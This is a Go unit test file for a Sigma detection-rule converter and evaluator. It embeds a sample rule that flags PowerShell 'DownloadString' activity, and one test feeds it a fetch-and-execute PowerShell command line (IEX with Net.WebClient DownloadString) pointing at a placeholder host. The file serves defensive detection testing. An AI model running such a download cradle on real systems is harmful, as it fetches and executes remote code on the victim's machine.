package sigma

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const sampleRule = `
title: Suspicious PowerShell Download
id: 11111111-2222-3333-4444-555555555555
status: stable
level: high
tags:
  - attack.execution
  - attack.t1059.001
logsource:
  category: process_creation
  product: windows
detection:
  selection:
    Image|endswith: '\powershell.exe'
    CommandLine|contains: 'DownloadString'
  condition: selection
`

func TestConvertYAMLExtractsMITRETagsAndConditions(t *testing.T) {
	c := NewConverter()

	internal, err := c.ConvertYAML(sampleRule)
	require.NoError(t, err)

	assert.Equal(t, "high", internal.Severity)
	assert.Contains(t, internal.MITRETactics, "execution")
	assert.Contains(t, internal.MITRETechniques, "T1059.001")
	assert.NotEmpty(t, internal.Conditions)
}

func TestEvaluatorMatchesConvertedRule(t *testing.T) {
	c := NewConverter()
	internal, err := c.ConvertYAML(sampleRule)
	require.NoError(t, err)

	e := NewEvaluator()

	matched := e.Evaluate(internal, map[string]interface{}{
		"process": map[string]interface{}{
			"executable":   `C:\Windows\System32\powershell.exe`,
			"command_line": "IEX (New-Object Net.WebClient).DownloadString('http://x')",
		},
	})
	assert.True(t, matched.Matched)

	unmatched := e.Evaluate(internal, map[string]interface{}{
		"process": map[string]interface{}{
			"executable":   `C:\Windows\System32\cmd.exe`,
			"command_line": "dir",
		},
	})
	assert.False(t, unmatched.Matched)
}

func TestExtractMITRETagsSplitsTacticsAndTechniques(t *testing.T) {
	tactics, techniques := ExtractMITRETags([]string{"attack.execution", "attack.t1059.001", "not-attack-tag"})

	assert.Equal(t, []string{"execution"}, tactics)
	assert.Equal(t, []string{"T1059.001"}, techniques)
}
